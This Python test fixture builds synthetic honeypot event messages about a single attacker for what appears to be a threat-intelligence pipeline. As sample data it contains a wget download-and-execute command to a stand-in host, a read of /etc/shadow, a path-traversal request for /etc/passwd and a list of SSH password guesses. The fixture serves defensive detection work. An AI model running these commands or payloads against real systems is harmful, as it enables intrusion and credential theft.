# SPDX-License-Identifier: AGPL-3.0-or-later
"""One upstream message of every sort: each lifter finds something in them."""

from __future__ import annotations

from typing import Any
from uuid import NAMESPACE_URL, uuid5

from decnet_ttp.runtime.bus import Envelope

_AT = "2026-11-20T10:00:{:02d}Z"


def _attempts() -> list[dict[str, Any]]:
    tried = ["123456", "password", "admin", "letmein", "qwerty", "dragon"]
    failed: list[dict[str, Any]] = [
        {"username": "root", "password": password, "result": "failure"} for password in tried
    ]
    attempts = [*failed, {"username": "root", "password": "root", "result": "success"}]
    return [
        {**attempt, "id": f"auth-{number}", "ts": _AT.format(number), "service": "ssh"}
        for number, attempt in enumerate(attempts)
    ]


def identity_of(name: str) -> str:
    """Return the identity that a lot of messages is about."""
    return str(uuid5(NAMESPACE_URL, f"identity:{name}"))


def messages(name: str, ip: str) -> list[Envelope]:
    """Return one message of every sort about one attacker.

    Args:
        name: Tells this lot from every other: its ids are made of it.
        ip: The attacker's address.
    """
    identity = identity_of(name)
    about = {"attacker_ip": ip, "decky_id": "decky-7"}
    commands = [
        "wget -q http://192.0.2.9/x86 -O /tmp/.x; chmod 777 /tmp/.x; /tmp/.x",
        "cat /etc/shadow",
        "uname -a",
    ]
    said: list[tuple[str, str, dict[str, Any]]] = [
        (
            "attacker.session.ended",
            "session.ended",
            {
                **about,
                "session_id": f"{name}-session",
                "source_id": f"{name}-session",
                "service": "ssh",
                "started_at": _AT.format(0),
                "ended_at": _AT.format(50),
                "duration_s": 50,
                "hassh": "fafc45381bfde997b6305c4e1600f1bf",
                "beacon_interval_s": 60,
                "beacon_jitter_pct": 0.02,
                "commands": [
                    {"id": f"{name}-c{number}", "command_text": text, "ts": _AT.format(20 + number)}
                    for number, text in enumerate(commands)
                ],
                "auth_attempts": [
                    {**attempt, "id": f"{name}-{attempt['id']}"} for attempt in _attempts()
                ],
                "http_requests": [
                    {
                        "id": f"{name}-h1",
                        "ts": _AT.format(40),
                        "method": "GET",
                        "raw_url": "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
                        "user_agent": "Mozilla/5.0 (compatible; Nmap Scripting Engine)",
                    }
                ],
                "payloads": [
                    {
                        "id": f"{name}-p1",
                        "ts": _AT.format(41),
                        "direction": "download",
                        "url": "http://192.0.2.9/x86",
                        "sha256": "ab" * 32,
                        "filename": "x86",
                    }
                ],
            },
        ),
        (
            "attacker.intel.enriched",
            "intel.enriched",
            {
                **about,
                "aggregate_verdict": "malicious",
                "abuseipdb_score": 95,
                "abuseipdb_categories": [18, 22],
                "feodo_listed": True,
                "feodo_malware_family": "QakBot",
            },
        ),
        (
            "attacker.fingerprinted",
            "jarm",
            {**about, "jarm": "07d14d16d21d21d07c42d41d00041d24a458a375eef0c576d23a7bab9a9fb1"},
        ),
        (
            "attacker.fingerprinted",
            "ipv6_leak",
            {
                **about,
                "addr": "fe80::a00:27ff:fe12:3456",
                "iid_kind": "eui64",
                "vector": "icmpv6",
                "observed_at": _AT.format(30),
            },
        ),
        (
            "identity.formed",
            "formed",
            {"identity_uuid": identity, "shared_password_hash": "5f" * 32, "account_count": 9},
        ),
        (
            "credential.reuse.detected",
            "reuse.detected",
            {
                "id": f"{name}-reuse",
                "secret_kind": "password",
                "target_count": 4,
                "attacker_ips": [ip],
                "services": ["ssh", "ftp"],
            },
        ),
        (
            "email.received",
            "received",
            {
                **about,
                "source_id": f"{name}-mail",
                "subject": "Invoice overdue",
                "from_domain": "example.org",
                "rcpt_count": 60,
                "rcpt_domains": ["example.net"],
                "attachment_count": 1,
                "attachment_extensions": ["docm"],
                "attachment_macros": True,
                "spf_pass": False,
            },
        ),
        (
            f"canary.{name}.triggered",
            "triggered",
            {
                "src_ip": ip,
                "decky_name": "decky-7",
                "trigger_id": f"{name}-trigger",
                "fingerprint": {"navigator_webdriver": True, "platform_ua_inconsistent": True},
            },
        ),
    ]
    return [
        Envelope(topic=topic, type=kind, payload=payload, id=f"{name}-{number}")
        for number, (topic, kind, payload) in enumerate(said)
    ]
